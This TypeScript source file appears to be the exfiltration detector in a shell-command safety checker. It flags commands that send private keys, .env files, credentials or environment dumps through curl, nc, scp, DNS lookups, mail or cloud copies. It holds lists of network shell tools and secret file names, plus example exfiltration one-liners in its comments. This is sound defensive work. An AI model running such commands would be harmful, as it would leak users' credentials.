import { type AccessEnv, EMPTY_ENV, resolvePath } from './detect-access-rules.js';
import type { RuleContext, VerbRules } from './detect-context.js';
import { DANGEROUS, HARDLINE } from './detect-keys.js';
import { isRemote, leavesFilesAlone, pathUses, transferOperands } from './detect-path-uses.js';
import { matchesBelow } from './detect-paths.js';
import { collapsePath } from './sensitive-paths.js';
import { operands, type Segment } from './shell-segment.js';
import type { ShellWord } from './shell-types.js';

/**
 * Exfiltration: a secret source (private keys, credentials, `.env` files, HERMES_HOME, process
 * environments, `env` output) reaching a network sink (uploads with curl/wget, nc, socat, scp,
 * rsync to a remote, ssh, DNS lookups carrying substituted data, mail, cloud copies). Dangerous;
 * hardline when the source is the gateway's own secrets.
 */

/** How secret a command's output (or a file) is: the gateway's own, someone's, or not at all. */
export type SecretLevel = 'gateway' | 'secret' | undefined;

export function higher(a: SecretLevel, b: SecretLevel): SecretLevel {
  if (a === 'gateway' || b === 'gateway') return 'gateway';
  return a ?? b;
}

/** What earlier commands of the list left behind: files and variables holding secrets. */
export interface FlowEnv extends AccessEnv {
  readonly secretFiles: ReadonlyMap<string, SecretLevel>;
  readonly secretVars: ReadonlyMap<string, SecretLevel>;
  /**
   * Values of those variables as written (`$(cat ~/.ssh/id_rsa)`): the engine substitutes
   * constants before rules run, so `$K` reaches a later command as this text (or its pieces).
   */
  readonly secretTexts: ReadonlyMap<string, SecretLevel>;
}

export const EMPTY_FLOW: FlowEnv = {
  ...EMPTY_ENV,
  secretFiles: new Map(),
  secretVars: new Map(),
  secretTexts: new Map(),
};

const TEMPLATE_SUFFIXES = ['.example', '.sample', '.template', '.dist', '.defaults', '.tmpl'];
const SECRET_NAMES =
  /^(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|credentials(?:\.json)?|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|kubeconfig|service-account.*\.json|.*\.(?:pem|key|p12|pfx|keystore|jks))$/;

/** Files that are secrets by name wherever they are (`.env`, `id_rsa`, `*.pem`, `credentials`). */
function secretByName(path: string): boolean {
  const name = path.slice(path.lastIndexOf('/') + 1);
  if (name === '.env' || (name.startsWith('.env.') && !TEMPLATE_SUFFIXES.some((s) => name.endsWith(s))))
    return true;
  return SECRET_NAMES.test(name);
}

function stripDot(path: string): string {
  return path.startsWith('./') ? path.slice(2) : path;
}

/** How secret the content of `path` is. */
export function fileSecrecy(
  path: string,
  word: ShellWord | undefined,
  env: FlowEnv,
  recursive: boolean,
): SecretLevel {
  const staged = env.secretFiles.get(stripDot(path));
  if (staged !== undefined) return staged;
  const resolved = resolvePath(path, word, env, undefined);
  let level: SecretLevel;
  const dir = collapsePath(resolved.path === '' ? path : resolved.path);
  if (recursive && (dir.startsWith('/') || dir.startsWith('~'))) {
    for (const match of matchesBelow(dir)) {
      if (match.area === 'hermes_secret' || match.area === 'process_secrets') return 'gateway';
      if (match.read === 'dangerous' && match.area !== 'block_device') level = 'secret';
    }
  }
  for (const match of resolved.matches) {
    if (match.area === 'hermes_secret' || match.area === 'process_secrets') return 'gateway';
    if (match.area === 'hermes_home' && resolved.hermesDir && recursive) return 'gateway';
    if (match.read === 'dangerous' && match.area !== 'block_device') level = 'secret';
  }
  if (level === undefined && !/\s/.test(path) && secretByName(path)) level = 'secret';
  return level;
}

/** Programs that print the environment (the command's own, which may carry passed-through secrets). */
function dumpsEnvironment(seg: Segment): boolean {
  const { verb, argv } = seg;
  if (verb === '') return seg.wrappers.some((w) => w.name === 'env');
  if (verb === 'printenv' || verb === 'env') return operands(argv).length === 0 || verb === 'printenv';
  if (verb === 'set') return argv.length === 0;
  if (verb === 'export' || verb === 'declare' || verb === 'typeset') {
    return argv.length === 0 || argv.every((a) => /^-[a-zA-Z]*[px][a-zA-Z]*$/.test(a));
  }
  if (verb === 'compgen') return argv.includes('-e') || argv.includes('-v');
  return false;
}

/** Commands that print a credential: `gh auth token`, `gcloud auth print-access-token`, `kubectl config view --raw`… */
function printsCredential(seg: Segment): boolean {
  const ops = operands(seg.argl);
  switch (seg.verb) {
    case 'gh':
      return ops[0] === 'auth' && ops[1] === 'token';
    case 'gcloud':
      return ops.includes('print-access-token') || ops.includes('print-identity-token');
    case 'aws':
      return (
        (ops[0] === 'configure' && (ops[1] === 'get' || ops[1] === 'export-credentials')) ||
        ops.includes('get-session-token')
      );
    case 'az':
      return ops.includes('get-access-token');
    case 'kubectl':
      return ops[0] === 'config' && ops[1] === 'view' && seg.argl.includes('--raw');
    case 'git':
      return ops[0] === 'credential' && ops[1] === 'fill';
    case 'security':
      return /^find-(?:generic|internet)-password$/.test(ops[0] ?? '');
    case 'pass':
    case 'gopass':
      return ops[0] === 'show' || (ops.length === 1 && ops[0] !== 'ls');
    case 'op':
      return ops[0] === 'read' || (ops[0] === 'item' && ops[1] === 'get');
    case 'vault':
      return ops[0] === 'read' || (ops[0] === 'kv' && ops[1] === 'get');
    default:
      return seg.verb.startsWith('docker-credential-') && ops[0] === 'get';
  }
}

/** `ps eww`, `ps auxe`: BSD-style `e` shows every process's environment, the gateway's included. */
export function psShowsEnvironment(seg: Segment): boolean {
  if (seg.verb !== 'ps') return false;
  return seg.argv.some(
    (arg) => (!arg.startsWith('-') && /^[a-zA-Z]+$/.test(arg) && arg.includes('e')) || arg === '-E',
  );
}

/** Variables written as a whole word or inside one (`$K`, `${K}`, `"x=$K"`). */
function variablesIn(text: string): string[] {
  const out: string[] = [];
  const re = /\$\{?([a-z_][a-z0-9_]*)/gi;
  for (let m = re.exec(text); m !== null; m = re.exec(text)) out.push((m[1] as string).toLowerCase());
  return out;
}

/**
 * Secrecy of argument text that carries a substitution the engine already replaced by its
 * source (`K=$(cat ~/.ssh/id_rsa); curl -d "$K"` reaches here as the text of the substitution).
 */
function argumentSecrecy(seg: Segment, env: FlowEnv): SecretLevel {
  let level: SecretLevel;
  seg.args.forEach((word, i) => {
    const text = seg.argl[i] as string;
    if (env.secretVars.size > 0)
      for (const name of variablesIn(text)) level = higher(level, env.secretVars.get(name));
    if (text.length >= 2)
      for (const [value, secrecy] of env.secretTexts)
        if (value.includes(text)) level = higher(level, secrecy);
    if (word.subs.length > 0 || !(text.includes('$(') || text.includes('`'))) return;
    for (const token of text.split(/[\s()`'"|;&<>=@]+/)) {
      if (token.includes('/') || token.startsWith('.env'))
        level = higher(level, fileSecrecy(token, undefined, env, false));
    }
  });
  return level;
}

/** Secrecy of what `seg` writes to its stdout (or to a file it redirects into). */
export function outputSecrecy(seg: Segment, env: FlowEnv, segmentsOf: SubLists): SecretLevel {
  if (dumpsEnvironment(seg) || printsCredential(seg)) return 'secret';
  if (psShowsEnvironment(seg)) return 'gateway';
  let level = argumentSecrecy(seg, env);
  level = higher(level, substitutionSecrecy(seg.args, env, segmentsOf));
  if (leavesFilesAlone(seg.verb) && seg.redirects.length === 0) return level;
  for (const used of pathUses(seg).paths) {
    if (used.use === 'write' || used.use === 'attr') continue;
    level = higher(level, fileSecrecy(used.path, used.word, env, used.recursive));
    if (level === 'gateway') return level;
  }
  return level;
}

export type SubLists = (word: ShellWord) => readonly Segment[];

/** Secrecy of what substitutions inside `words` produce (`$(cat ~/.ssh/id_rsa)`). */
export function substitutionSecrecy(
  words: readonly ShellWord[],
  env: FlowEnv,
  segmentsOf: SubLists,
): SecretLevel {
  let level: SecretLevel;
  for (const word of words) {
    if (word.subs.length === 0) continue;
    for (const seg of segmentsOf(word)) level = higher(level, outputSecrecy(seg, env, segmentsOf));
  }
  return level;
}

/** What a network sink sends: files, its stdin, and its arguments (which may carry substitutions). */
export interface Upload {
  readonly files: { path: string; word: ShellWord | undefined; recursive: boolean }[];
  /** It sends what it reads on stdin (`nc host 80`, `curl -T -`, `ssh host 'cat > x'`). */
  readonly stdin: boolean;
  /** Its arguments reach the network (URLs, headers, DNS names): substitutions in them leak. */
  readonly argsLeak: boolean;
}

const CURL_DATA = new Set([
  '-d',
  '--data',
  '--data-ascii',
  '--data-binary',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
  '-T',
  '--upload-file',
]);

/** The file a curl data value names: `@file`, `name@file`, `name=@file;type=x`, `name=<file`. */
function curlFile(option: string, value: string): string | undefined {
  if (option === '-T' || option === '--upload-file') return value;
  if (option === '-F' || option === '--form') {
    const m = /^[^=]*=[@<]([^;]*)/.exec(value);
    return m?.[1];
  }
  if (value.startsWith('@')) return value.slice(1);
  if (option === '--data-urlencode') {
    const at = value.indexOf('@');
    const eq = value.indexOf('=');
    if (at > 0 && (eq < 0 || at < eq)) return value.slice(at + 1);
  }
  return undefined;
}

function curlUpload(seg: Segment): Upload {
  const { argv, args } = seg;
  const files: Upload['files'] = [];
  let stdin = false;
  for (let i = 0; i < argv.length; i += 1) {
    const arg = argv[i] as string;
    const eq = arg.startsWith('--') ? arg.indexOf('=') : -1;
    const name = eq < 0 ? arg : arg.slice(0, eq);
    let option: string | undefined;
    let value: string | undefined;
    let word: ShellWord | undefined;
    if (CURL_DATA.has(name)) {
      option = name;
      value = eq < 0 ? argv[i + 1] : arg.slice(eq + 1);
      word = eq < 0 ? args[i + 1] : args[i];
      if (eq < 0) i += 1;
    } else if (/^-[dFT]./.test(arg)) {
      option = arg.slice(0, 2);
      value = arg.slice(2);
      word = args[i];
    }
    if (option === undefined || value === undefined) continue;
    const file = curlFile(option, value);
    if (file === undefined) continue;
    if (file === '-' || file === '.' || file === '/dev/stdin') stdin = true;
    else files.push({ path: file.toLowerCase(), word, recursive: false });
  }
  return { files, stdin, argsLeak: true };
}

function wgetUpload(seg: Segment): Upload {
  const files: Upload['files'] = [];
  let stdin = false;
  seg.argl.forEach((arg, i) => {
    for (const option of ['--post-file', '--body-file']) {
      let value: string | undefined;
      if (arg.startsWith(`${option}=`)) value = arg.slice(option.length + 1);
      else if (arg === option) value = seg.argl[i + 1];
      if (value === undefined) continue;
      if (value === '-' || value === '/dev/stdin') stdin = true;
      else files.push({ path: value, word: seg.args[i], recursive: false });
    }
  });
  return { files, stdin, argsLeak: true };
}

/** scp/rsync/sftp: local sources go out when the destination is remote. */
function copyUpload(seg: Segment): Upload | undefined {
  const ops = transferOperands(seg);
  const dest = ops[ops.length - 1];
  if (dest === undefined || !isRemote(dest)) return undefined;
  const files = ops
    .slice(0, -1)
    .filter((p) => !isRemote(p))
    .map((path) => ({ path, word: undefined, recursive: true }));
  return { files, stdin: false, argsLeak: false };
}

/** `aws s3 cp SRC s3://…`, `gsutil cp`, `rclone copy`, `gh gist create FILE`. */
function cloudUpload(seg: Segment): Upload | undefined {
  const ops = operands(seg.argl);
  if (seg.verb === 'gh') {
    if (ops[0] !== 'gist' || ops[1] !== 'create') return undefined;
    const files = ops.slice(2);
    return {
      files: files.filter((f) => f !== '-').map((path) => ({ path, word: undefined, recursive: false })),
      stdin: files.length === 0 || files.includes('-'),
      argsLeak: false,
    };
  }
  if (seg.verb === 'rclone' && ops[0] === 'rcat') return { files: [], stdin: true, argsLeak: false };
  const at = ops.findIndex(
    (op) =>
      op === 'cp' ||
      op === 'mv' ||
      op === 'sync' ||
      op === 'copy' ||
      op === 'copyto' ||
      op === 'move' ||
      op === 'rsync',
  );
  if (at < 0) return undefined;
  const rest = ops.slice(at + 1);
  const dest = rest[rest.length - 1];
  if (dest === undefined || !isRemote(dest)) return undefined;
  const sources = rest.slice(0, -1);
  return {
    files: sources
      .filter((s) => s !== '-' && !isRemote(s))
      .map((path) => ({ path, word: undefined, recursive: true })),
    stdin: sources.includes('-'),
    argsLeak: false,
  };
}

/** httpie/xh: `@file` and `field=@file` arguments, and stdin. */
function httpieUpload(seg: Segment): Upload {
  const files: Upload['files'] = [];
  seg.argl.forEach((arg, i) => {
    const m = /^(?:[^=:@]*(?:=|:=))?@(.+)$/.exec(arg);
    if (m !== null) files.push({ path: m[1] as string, word: seg.args[i], recursive: false });
  });
  return { files, stdin: true, argsLeak: true };
}

function mailUpload(seg: Segment): Upload {
  const files: Upload['files'] = [];
  seg.argl.forEach((arg, i) => {
    if (arg === '-a' || arg === '-A' || arg === '--attach') {
      const path = seg.argl[i + 1];
      if (path !== undefined) files.push({ path, word: seg.args[i + 1], recursive: false });
    }
  });
  return { files, stdin: true, argsLeak: true };
}

/** `socat - TCP:host:port`, `socat FILE:x TCP:…`: file addresses it reads. */
function socatUpload(seg: Segment): Upload {
  const files: Upload['files'] = [];
  for (const arg of operands(seg.argl)) {
    const m = /^(?:file|open|gopen|create):([^,]+)/.exec(arg);
    if (m !== null) files.push({ path: m[1] as string, word: undefined, recursive: false });
  }
  return { files, stdin: true, argsLeak: true };
}

const STREAM_CLIENTS = new Set([
  'nc',
  'ncat',
  'netcat',
  'cryptcat',
  'telnet',
  'ssh',
  'gnutls-cli',
  'pwncat',
  'ftp',
  'lftp',
  'tftp',
  'smbclient',
]);
const DNS_TOOLS = new Set([
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'delv',
  'ping',
  'ping6',
  'traceroute',
  'resolvectl',
  'getent',
  'whois',
]);
const MAILERS = new Set(['mail', 'mailx', 'sendmail', 'mutt', 'msmtp', 'ssmtp', 'neomutt', 's-nail']);

/** What `seg` sends over the network, or undefined when it is not a network sink. */
export function uploadOf(seg: Segment): Upload | undefined {
  const verb = seg.verb;
  if (verb === 'curl') return curlUpload(seg);
  if (verb === 'wget') return wgetUpload(seg);
  if (STREAM_CLIENTS.has(verb)) return { files: [], stdin: true, argsLeak: true };
  if (verb === 'openssl')
    return seg.argl.includes('s_client') ? { files: [], stdin: true, argsLeak: false } : undefined;
  if (verb === 'socat') return socatUpload(seg);
  if (verb === 'scp' || verb === 'rsync' || verb === 'sftp') return copyUpload(seg);
  if (
    verb === 'aws' ||
    verb === 'gsutil' ||
    verb === 'gcloud' ||
    verb === 'rclone' ||
    verb === 'gh' ||
    verb === 'az'
  )
    return cloudUpload(seg);
  if (verb === 'http' || verb === 'https' || verb === 'xh' || verb === 'xhs') return httpieUpload(seg);
  if (DNS_TOOLS.has(verb)) return { files: [], stdin: false, argsLeak: true };
  if (MAILERS.has(verb)) return mailUpload(seg);
  if (seg.redirects.some((r) => r.target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(r.target.text))) {
    return { files: [], stdin: verb === 'cat' && operands(seg.argv).length === 0, argsLeak: false };
  }
  if (verb === 'xargs') {
    const inner = seg.argl.find((a) => !a.startsWith('-') && !/^\d+$/.test(a) && a !== '{}');
    if (
      inner !== undefined &&
      (inner === 'curl' || inner === 'wget' || DNS_TOOLS.has(inner) || STREAM_CLIENTS.has(inner))
    )
      return { files: [], stdin: true, argsLeak: false };
  }
  return undefined;
}

/** Emits the exfiltration finding for a secret level. */
export function exfilFinding(ctx: RuleContext, level: SecretLevel): void {
  if (level === 'gateway') ctx.hardline(HARDLINE.hermesExfil);
  else if (level === 'secret') ctx.danger(DANGEROUS.exfil);
}

/** What one sink command sends by itself: named files, `< file`, substitutions in its arguments. */
export function sinkSecrecy(seg: Segment, upload: Upload, env: FlowEnv, segmentsOf: SubLists): SecretLevel {
  let level: SecretLevel;
  for (const file of upload.files)
    level = higher(level, fileSecrecy(file.path, file.word, env, file.recursive));
  for (const redirect of seg.redirects) {
    if ((redirect.op === '<' || redirect.op === '<>') && redirect.target !== undefined) {
      level = higher(level, fileSecrecy(redirect.target.text.toLowerCase(), redirect.target, env, false));
      level = higher(level, substitutionSecrecy([redirect.target], env, segmentsOf));
    }
  }
  // Substitutions feed a sink whatever the argument is: data, URL, or a `<(…)` file to upload.
  level = higher(level, substitutionSecrecy(seg.args, env, segmentsOf));
  if (upload.argsLeak) level = higher(level, argumentSecrecy(seg, env));
  if (seg.redirects.some((r) => r.target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)))
    level = higher(level, outputSecrecy(seg, env, segmentsOf));
  return level;
}

function subListsFor(ctx: RuleContext): SubLists {
  return (word) => word.subs.flatMap((sub) => ctx.segmentsOf(sub.list));
}

/** One command on its own: `curl -F f=@~/.ssh/id_rsa`, `nc h 1 < .env`, `dig $(cat .env).x.io`. */
export function exfilRule(ctx: RuleContext, env: FlowEnv = EMPTY_FLOW): void {
  const upload = uploadOf(ctx.seg);
  if (upload === undefined) return;
  exfilFinding(ctx, sinkSecrecy(ctx.seg, upload, env, subListsFor(ctx)));
}

export const exfilRules: readonly VerbRules[] = [
  {
    verbs: [
      'curl',
      'wget',
      'openssl',
      'socat',
      'scp',
      'rsync',
      'sftp',
      'aws',
      'gsutil',
      'gcloud',
      'rclone',
      'gh',
      'az',
      'http',
      'https',
      'xh',
      'xhs',
      ...STREAM_CLIENTS,
      ...DNS_TOOLS,
      ...MAILERS,
    ],
    run: (ctx) => exfilRule(ctx),
  },
];
